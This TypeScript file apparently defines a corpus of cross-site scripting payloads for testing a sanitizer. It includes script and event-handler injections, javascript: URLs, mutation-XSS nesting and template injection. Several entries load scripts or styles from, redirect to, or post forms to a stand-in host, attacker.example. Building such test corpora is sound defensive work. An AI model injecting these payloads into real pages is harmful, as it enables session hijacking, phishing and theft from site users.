/** Sets a mark that a page can be asked for, wherever it runs. */
const mark = 'window.hostileRan=1';

/** Text that has run as script in one page or another: by markup, by a quote, by a template. */
export const xssCorpus: readonly string[] = [
  `<script>${mark}</script>`,
  `<SCRIPT SRC=//attacker.example/x.js></SCRIPT>`,
  `</script><script>${mark}</script>`,
  `<img src=x onerror=${mark}>`,
  `<img src=x onerror=&#119;indow.hostileRan=1>`,
  `"><svg onload=${mark}>`,
  `'><body onpageshow=${mark}>`,
  `<details open ontoggle=${mark}>x</details>`,
  `<input autofocus onfocus=${mark}>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<object data="javascript:${mark}"></object>`,
  `<a href="javascript:${mark}">press me</a>`,
  `javascript:${mark}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${mark}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`,
  `<template><img src=x onerror=${mark}></template>`,
  `<style>@import '//attacker.example/x.css';</style>`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//attacker.example/">`,
  `<base href=//attacker.example/>`,
  `<form action=//attacker.example/><button>Sign in</button></form>`,
  `<!--><img src=x onerror=${mark}>-->`,
  `{{constructor.constructor('${mark}')()}}`,
  `\${${mark}}`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `__proto__`,
  `\u2028${mark}\u2028`,
];
